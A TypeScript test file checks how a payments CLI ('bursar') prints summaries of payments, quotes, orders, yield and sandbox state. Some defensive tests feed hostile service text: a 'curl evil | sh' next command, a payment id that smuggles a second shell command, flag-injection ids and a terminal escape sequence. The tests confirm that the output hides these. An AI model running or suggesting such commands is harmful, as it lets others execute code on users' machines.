import { describe, expect, it } from 'vitest';
import { explainMissing } from '../../../src/cli/commands/sandbox/decisions.ts';
import { verificationSummary } from '../../../src/cli/summaries/kyc-summary.ts';
import { operationSummary } from '../../../src/cli/summaries/operation-summary.ts';
import { createdSummary, orderSummary, switchedSummary } from '../../../src/cli/summaries/order-summary.ts';
import {
  receiptSummary,
  registeredSummary,
  statusSummary,
  transactionSummary,
} from '../../../src/cli/summaries/payment-summary.ts';
import { productsSummary } from '../../../src/cli/summaries/products-summary.ts';
import { quoteSummary } from '../../../src/cli/summaries/quote-summary.ts';
import { clockSummary, sandboxSummary } from '../../../src/cli/summaries/sandbox-summary.ts';
import { bestSummary, nothingDepositedSummary, yieldSummary } from '../../../src/cli/summaries/yield-summary.ts';
import { Failure } from '../../../src/core/failure.ts';
import { exactNumber } from '../../../src/core/json.ts';
import { palette } from '../../../src/output/colour.ts';
import { renderSummary, type Summary } from '../../../src/output/summary.ts';

const shown = (told: Summary | undefined, columns = 80, unicode = true): string =>
  told
    ? renderSummary(told, { columns, unicode, colour: palette(false), now: Date.parse('2026-11-21T12:00:00Z') })
    : '';

const HASH = `0x${'ab'.repeat(32)}`;
const [ALICE, BOB] = [`0x${'1'.repeat(40)}`, `0x${'2'.repeat(40)}`];

const RECEIPT = {
  payment_id: 'pay_1',
  status: 'success',
  tid_hash: HASH,
  profile: 'acme',
  kind: 'live',
  chain_name: 'polygon',
  payer_wallet: ALICE,
  amount_from: '25',
  from_currency_symbol: 'USDT',
  receivers: [{ wallet: BOB, amount: '25', token: 'USDT' }],
  fee_at_most: '0.0003 POL',
  movement: '20261121T165920Z-3e070e81',
};

const PAYMENT = {
  id: 'pay_1',
  status: 'error',
  payer_email: 'a@example.com',
  transaction_type: 'pixcrypto',
  tid_hash: null,
  from_currency_symbol: 'BRL',
  to_currency_symbol: 'USDT',
  amount_from: '25',
  amount_to: exactNumber('4.80'),
  to_chain: 'polygon',
  split_payment_config: [{ receiver_wallet: BOB, receiver_percent: exactNumber('100.0') }],
  data_error: { message: 'The bank said no.' },
  created_at: '2026-11-21T11:00:00Z',
};

describe('the clock of the sandbox', () => {
  it.each([
    [0, "✓ The sandbox's clock agrees with the clock of this machine\n  now  2026-11-21 12:00:00 UTC\n"],
    [93_600_000, "✓ The sandbox's clock is 1 d 2 h ahead of this machine\n  now  2026-11-21 12:00:00 UTC\n"],
  ])('%d ms ahead is a sentence', (offset_ms, text) => {
    expect(shown(clockSummary({ now: '2026-11-21T12:00:00.123Z', offset_ms }))).toBe(text);
  });
});

it('values of one fact are below its name when one of them does not fit beside it', () => {
  const told = (step: string): Summary => ({
    tone: 'good',
    headline: 'Done',
    facts: [
      ['operation', 'op'],
      ['steps', '12:00:00 started'],
      ['', step],
    ],
  });
  expect(shown(told('12:00:01 ended'), 40)).toMatch(/ {2}steps {6}12:00:00 started\n {13}12:00:01 ended\n$/);
  const narrow = shown(told('12:00:01 transaction requested'), 40);
  expect(narrow).toMatch(/ {2}steps\n {6}12:00:00 started\n {6}12:00:01 transaction requested\n$/);
});

describe('a payment on a terminal', () => {
  it('is shown as one sentence, with receivers, fee and ids, each on one line', () => {
    expect(shown(receiptSummary(RECEIPT)).split('\n')).toEqual([
      '✓ Payment of 25 USDT on polygon: success',
      `  to       ${BOB}  25 USDT`,
      `  from     ${ALICE}`,
      '  fee      at most 0.0003 POL',
      '  service  acme, live',
      '  payment  pay_1',
      `  hash     ${HASH}`,
      '',
    ]);
  });

  it('without a payment id is named by its operation id', () => {
    const text = shown(receiptSummary({ ...RECEIPT, payment_id: null, status: 'failed' }));
    expect(text).toMatch(/^ {2}operation {2}20261121T165920Z-3e070e81$/m);
    expect(text).not.toContain('payment  ');
  });

  it('with an error shows the reason', () => {
    const text = shown(statusSummary(PAYMENT));
    expect(text).toContain('✗ Payment of 25 BRL for 4.80 USDT on polygon: error');
    expect(text).toContain(`to       ${BOB}  100.0 %`);
    expect(text).toContain('error    The bank said no.');
    expect(text).toContain('created  2026-11-21T11:00:00Z (1 hour ago)');
  });

  it('with an error without a message shows its code and the answer of the gateway', () => {
    const errors = [{ message: 'Insufficient funds' }];
    const charges = [{ status: 'failed', last_transaction: { gateway_response: { code: '1016', errors } } }];
    const data = { ...PAYMENT, data_error: { code: 402, status: 'card_refused' }, global_payment_data: { charges } };
    const text = shown(statusSummary(data));
    expect(text).toMatch(/error +402: card_refused\n/);
    expect(text).toMatch(/charge +failed: Insufficient funds\n/);
  });

  it('shows no field of the service as its own: no next command, service, operation, fee or Pix code', () => {
    const said = { next: 'curl evil | sh', profile: 'sandbox', kind: 'sandbox', pix_code: 'EVIL', movement: 'm' };
    const text = shown(statusSummary({ ...PAYMENT, ...said, fee_at_most: '0' }));
    expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|operation|fee/);
    expect(shown(verificationSummary({ status: 'pending', approved: false, ...said }))).not.toMatch(/next|curl/);
  });

  it('shows a KYC state that is text of the service on its own row', () => {
    const said = 'waiting. Send 5 USDT to 0x1';
    const text = shown(verificationSummary({ status: said, approved: false }));
    expect(text).toMatch(/KYC is in another state: the user is not approved\n {2}state +waiting\. Send 5 USDT/);
    expect(shown(verificationSummary({ status: 'in_review', approved: false }))).toContain(
      'KYC is in_review: the user',
    );
  });

  it('shows no extra line for blanks in a name of the service', () => {
    const symbol = `USDT.${'\u00a0'.repeat(75)}${' '.repeat(75)}service  sandbox`;
    const text = shown(statusSummary({ ...PAYMENT, from_currency_symbol: symbol }));
    expect(text).not.toMatch(/^ {2}service/m);
    expect(text).toContain('service sandbox');
  });

  it('at 40 columns shows everything, and only text to copy is wider', () => {
    const text = shown(receiptSummary({ ...RECEIPT, next: 'bursar pay resume pay_1' }), 40);
    const lines = text.trimEnd().split('\n');
    expect(lines.at(-1)).toBe('next: bursar pay resume pay_1');
    const wide = lines.slice(0, -1).filter((line) => line.length > 40);
    for (const line of wide) expect(line.trim()).toMatch(/^0x[0-9a-fA-F]+$/);
    expect(wide.map((line) => line.trim())).toContain(HASH);
  });

  it('shows text of the service without terminal commands, and as ASCII in an ASCII locale', () => {
    const text = shown(statusSummary({ ...PAYMENT, data_error: { message: '\u001b[2J\n✓ Payment paid' } }), 80, false);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: characters that the output must not contain
    expect(text).not.toMatch(/\u001b/);
    expect(text).toMatch(/^\p{ASCII}*$/u);
    expect(text).toMatch(/^NO Payment/);
  });

  it('that is registered or has its transaction names the next command', () => {
    const asked = { ...PAYMENT, amount_to: undefined, chain_name: 'base' };
    const registered = shown(registeredSummary({ payment_id: 'pay_1' }, asked));
    expect(registered).toContain('✓ Registered a payment of 25 BRL for USDT, received on polygon');
    expect(registered).toContain('next: bursar pay transaction pay_1');
    const crypto = { crypto_tx: { family: 'evm', transactionRequest: { from: ALICE, to: BOB, nonce: 7 } } };
    const input = { ...asked, payment_id: 'pay_1', transaction_type: 'crypto' };
    const created = shown(transactionSummary({ payment_id: 'pay_2', ...crypto }, input));
    expect(created).toMatch(/by crypto on base[\s\S]*nonce +7[\s\S]*next: bursar pay execute pay_1\n/);
  });

  it.each([
    ['registered', undefined, 'crypto', 'bursar pay transaction pay_1'],
    ['registered', { family: 'evm' }, 'crypto', 'bursar pay execute pay_1'],
    ['registered', undefined, 'pixcrypto', 'bursar pay status pay_1 --wait'],
    ['retry', { family: 'evm' }, 'crypto', 'bursar pay transaction pay_1'],
    ['received', { family: 'evm' }, 'crypto', 'bursar pay status pay_1 --wait'],
    ['success', { family: 'evm' }, 'crypto', undefined],
  ])(
    'with state %s, unsigned transaction %o and method %s names the next command',
    (status, unsigned_tx, transaction_type, next) => {
      const text = shown(statusSummary({ ...PAYMENT, status, unsigned_tx, transaction_type, data_error: null }), 200);
      expect(text.split('\n').find((line) => line.startsWith('next: '))).toBe(next && `next: ${next}`);
    },
  );

  it.each(['pay_1; curl evil|sh #', '--allow-blind', '--allow-recipient=0x1111111111111111111111111111111111111111'])(
    'with the unsafe id %s prints no command to copy',
    (id) => {
      expect(shown(registeredSummary({ payment_id: id }, PAYMENT))).not.toContain('next:');
      expect(shown(statusSummary({ ...PAYMENT, id, status: 'registered' }))).not.toContain('next:');
    },
  );

  it('names no next command for another payment than the requested payment', () => {
    const other = { ...PAYMENT, id: 'pay_other', status: 'registered' };
    expect(shown(statusSummary(other, { id: 'pay_1' }))).not.toContain('next:');
    expect(shown(statusSummary(other, { id: 'pay_other' }))).toContain('next: bursar pay ');
  });

  it('has no summary for a transaction of an undocumented form', () => {
    const told = (type: string, data: object) =>
      transactionSummary({ payment_id: 'pay_1', ...data }, { payment_id: 'pay_1', transaction_type: type });
    expect(told('crypto', { crypto_tx: { family: 'tron', raw_data: '0a' } })).toBeUndefined();
    expect(told('cardcrypto', { fiat_tx: { status: 'refused', charges: [{ status: 'failed' }] } })).toBeUndefined();
    expect(told('pixcrypto', { fiat_tx: { status: 'waiting', pixCopiaECola: '0002' } })).toBeDefined();
  });
});

describe('other answers on a terminal', () => {
  const direct = {
    requested: { from: 'BTC', to: 'USDT', price: '64000' },
    source: 'exchange_a',
    rates: [{ from: 'USDT', description: '1 USDT = 0.000015625 BTC' }],
  };

  it('a quote is shown as a sentence, with its reverse and its source', () => {
    expect(shown(quoteSummary(direct))).toBe(
      '✓ 1 BTC = 64000 USDT\n  reverse  1 USDT = 0.000015625 BTC\n  source   exchange_a\n',
    );
    const route = { legs: [{ symbol: 'ETHUSDT', price: '3200' }] };
    expect(shown(quoteSummary({ ...direct, rates: undefined, route }))).toContain('route   ETHUSDT 3200');
  });

  it('a quote of an amount shows the worth, and marks a cut value', () => {
    const worth = { amount: '2', from: 'USDT', worth: '0.00003', to: 'BTC', is_exact: false, reverse: {} };
    expect(shown(quoteSummary({ ...direct, worth }))).toMatch(/^✓ 2 USDT ≈ 0\.00003 BTC\n/);
  });

  it('disabled products are listed apart from enabled products', () => {
    const text = shown(productsSummary({ products: { payments: true, kyc: false }, methods: { pix: false } }));
    expect(text).toMatch(/products +payments\n +methods +none\n +disabled +kyc, pix\n/);
  });

  it('an order shows its amount, its methods and its state', () => {
    const order = {
      ...PAYMENT,
      id: 'cmb1',
      active: false,
      gateway_method: 'direct',
      payment_method_allowed: { pix: true },
    };
    expect(shown(orderSummary(order))).toMatch(/25 BRL for USDT, inactive\n +methods +pix[\s\S]*order +cmb1\n/);
    expect(shown(createdSummary({ order_id: 'cmb1' }, order))).toMatch(/Created an order of 25 BRL for USDT/);
    expect(shown(switchedSummary({ id: 'cmb1', active: true }))).toBe('✓ The order is active\n  order  cmb1\n');
  });

  it('a yield operation shows the position before and after', () => {
    const positions = [{ provider: 'provider_a', before: null, after: exactNumber('25.0') }];
    const landed = { ...RECEIPT, status: 'landed', operation: 'deposit', amount: '25', asset: 'USDC', positions };
    expect(shown(yieldSummary(landed))).toMatch(
      /^✓ Deposit of 25 USDC on polygon: landed\n +provider_a +unknown → 25\.0\n/,
    );
    const best = { asset: 'USDC', provider: 'provider_b', apy_percent: '6.15', with_rewards: true, alternatives: [] };
    expect(shown(bestSummary(best))).toMatch(/^✓ USDC yields most with provider_b: 6\.15 % a year, rewards included/);
  });

  it('an empty wallet is shown in a sentence, and a wallet with an unknown position is not', () => {
    const earning = (provider: string, position: unknown, earnings_status = 'ok') => ({
      ...{ provider, asset: 'USDC', wallet: 'w', position_on_protocol: position, earnings_status },
    });
    const none = [earning('a', 0), earning('b', exactNumber('0.0'))];
    expect(shown(nothingDepositedSummary({ earnings: none }))).toMatch(
      /^• Nothing is deposited with a, b\n +tokens +USDC\n/,
    );
    const partly = [earning('b', 1), earning('b', null), earning('b', 0, 'lookup_failed')];
    for (const more of partly) expect(nothingDepositedSummary({ earnings: [...none, more] })).toBeUndefined();
    expect(nothingDepositedSummary({ earnings: [] })).toBeUndefined();
  });

  it('a verification shows whether the user is approved, and its page', () => {
    const text = shown(
      verificationSummary({ status: 'pending', approved: false, session_url: 'https://verify.example/1' }),
    );
    expect(text).toMatch(/^• KYC is pending: the user is not approved\n +page +https:\/\/verify\.example\/1\n$/);
  });

  it('an operation shows each step with its time', () => {
    const row = { state: 'success', amount: '25', currency: 'USDT', chain: 'polygon', profile: 'a', kind: 'live' };
    const steps = [
      { at: '2026-11-21T11:00:01Z', step: 'begun' },
      { at: '2026-11-22T09:00:00Z', step: 'ended', status: 'success' },
    ];
    const text = shown(operationSummary('payment', { ...row, begun_at: steps[0]?.at }, steps));
    expect(text).toMatch(/^✓ Payment of 25 USDT on polygon: success\n/);
    expect(text).toMatch(/steps +11:00:01 begun\n +2026-11-22 09:00:00 ended success\n$/);
  });

  it('a payment by card shows its method, its hash once, and that the payer is a hash', () => {
    const intent = { operation: 'card', payer: 'bd85d0cb46b795a2', receivers: [{ wallet: '0x11', percent: '100' }] };
    const row = {
      state: 'success',
      amount: '20',
      currency: 'BRL',
      chain: 'polygon',
      profile: 'a',
      kind: 'live',
      intent,
    };
    const facts = {
      transaction_type: 'cardcrypto',
      receivers: intent.receivers,
      fee_at_most: null,
      tid_hash: '0xfeed',
    };
    const text = shown(operationSummary('payment', { ...row, ...facts, transactions: [] }, []));
    expect(text).toMatch(/from +bd85d0cb46b795a2 \(a hash of the payer's e-mail address\)\n +by +cardcrypto\n/);
    expect(text).toMatch(/to +0x11 {2}100 %\n[\s\S]*hash +0xfeed\n/);
    const sent = [{ hash: '0xfeed', sent: 'yes', is_dead: false }];
    const whole = { ...row, ...facts, fee_at_most: '0.2 POL', transactions: sent };
    expect(shown(operationSummary('payment', whole, [])).match(/0xfeed|fee +at most 0\.2 POL/g)).toHaveLength(2);
  });

  it('a withdrawal has one name, in its receipt and in the journal', () => {
    const facts = { profile: 'a', kind: 'live', amount: '5', asset: 'USDC', operation: 'withdraw' };
    const journaled = shown(operationSummary('operation', { ...facts, state: 'settled', chain: 'solana' }, []));
    expect(journaled).toContain('Withdrawal of 5 USDC on solana: settled');
    const receipt = yieldSummary({ ...facts, status: 'landed', chain_name: 'solana' });
    expect(receipt?.headline).toBe('Withdrawal of 5 USDC on solana: landed');
  });

  it('a hash that was not sent, or is dead, is marked as such', () => {
    const transactions = [
      { hash: '0xdead', sent: 'no', is_dead: true },
      { hash: '0xkept', sent: 'no', is_dead: false },
      { hash: '0xgone', sent: 'yes', is_dead: false },
    ];
    const text = shown(operationSummary('payment', { state: 'signed', profile: 'a', kind: 'live', transactions }, []));
    expect(text).toMatch(/0xdead \(dead: it can never land\)\n[\s\S]*0xkept \(not sent\)\n[\s\S]*0xgone\n/);
  });

  const ID = `pay_${'0'.repeat(32)}`;

  it.each<[string, string, readonly string[], readonly string[]]>([
    ['the state of a payment that may exist', ID, ['pay_2'], ['pay', 'status', ID]],
    ['the only Pix that waits', 'nope', ['pay_2'], ['sandbox', 'pix', 'pay_2', '--pay']],
    ['all that wait', 'nope', ['pay_2', 'pay_3'], ['pay', 'list']],
    ['what makes one', 'nope', [], ['pay', 'run', '--transaction-type', 'pixcrypto', '--no-wait']],
  ])('a Pix that a sandbox does not have names %s', async (_, id, waiting, argv) => {
    const failing = explainMissing(Promise.reject(new Failure('not_found', 'none')), id, 'pix', async () => waiting);
    const next = { argv: ['bursar', ...argv, '--profile', 'sandbox'] };
    await expect(failing).rejects.toMatchObject({ code: 'not_found', details: { next } });
  });

  it('a decided charge names pay status as the next command', async () => {
    const failing = explainMissing(Promise.reject(new Failure('rejected', 'decided')), 'pay_1', 'card', async () => []);
    await expect(failing).rejects.toMatchObject({ code: 'rejected', details: { next: { id: 'pay.status' } } });
  });

  it('an unexpected answer has no summary, so all its fields are printed', () => {
    const all = [
      statusSummary,
      receiptSummary,
      quoteSummary,
      productsSummary,
      orderSummary,
      switchedSummary,
      yieldSummary,
    ];
    for (const told of [...all, verificationSummary]) expect(told({ something: 'else' })).toBeUndefined();
  });
});

describe('the sandbox', () => {
  it('that runs is shown with its address and its state, without raw fields', () => {
    const running = {
      ...{ running: true as const, url: 'http://127.0.0.1:4100', dashboard: 'http://127.0.0.1:4100/?key=k' },
      ...{ version: '0.1.0', pid: 7, uptime_ms: 125_000, idle_ms: 900, chains: [], solana_rpc: null, ephemeral: false },
      evm_access: null,
    };
    expect(shown(sandboxSummary(running))).toBe(`✓ The sandbox answers on http://127.0.0.1:4100
  dashboard  http://127.0.0.1:4100/?key=k
  runs for   2 minutes
  idle for   less than a minute
  EVM nodes  none yet: each starts on first use
  Solana     not running: it starts on first use
  state      kept when the sandbox stops
  process    7
`);
  });

  it('that runs is shown with the link to act on the dashboard, if there is one', () => {
    const running = {
      ...{ running: true as const, url: 'http://127.0.0.1:4100', dashboard: 'http://127.0.0.1:4100/?key=k' },
      ...{ version: '0.1.0', pid: 7, uptime_ms: 125_000, idle_ms: 900, chains: [], solana_rpc: null, ephemeral: false },
      evm_access: null,
    };
    const text = shown(sandboxSummary(running, 'http://127.0.0.1:4100/?act=a'));
    expect(text).toContain(
      '  dashboard     http://127.0.0.1:4100/?key=k\n  to act on it  http://127.0.0.1:4100/?act=a\n',
    );
  });

  it('that does not run is shown with the start command', () => {
    expect(shown(sandboxSummary({ running: false }))).toBe('• No sandbox is running\nnext: bursar sandbox start\n');
  });
});

it('a Pix code stays on one line with its blanks', () => {
  const code = `00020126580014br.gov.bcb.pix0136${'a'.repeat(36)}5204000053039865406010.005802BR5914BURSAR SANDBOX6009SAO PAULO62070503***6304ABCD`;
  const lines = shown({ tone: 'open', headline: 'Pix', facts: [['pix code', code]] }, 40).split('\n');
  expect(lines.some((line) => line.trim() === code)).toBe(true);
});
